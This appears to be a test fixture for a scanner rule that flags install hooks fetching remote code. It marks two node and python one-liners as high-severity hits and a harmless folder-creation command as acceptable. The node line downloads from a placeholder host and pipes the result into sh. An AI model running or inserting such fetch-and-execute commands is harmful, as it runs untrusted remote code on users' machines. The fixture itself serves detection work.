# fixture: hook
# ruleid: install_hook_fetch high
node -e "require('https').get('https://cdn.example.top/p', r => r.pipe(process.stdout))" | sh
# ruleid: install_hook_fetch high
python3 -c "import urllib.request as u; print(u.urlopen('https://cdn.example.top/p').read())"
# ok: install_hook_fetch
node -e "require('fs').mkdirSync('build', { recursive: true })"
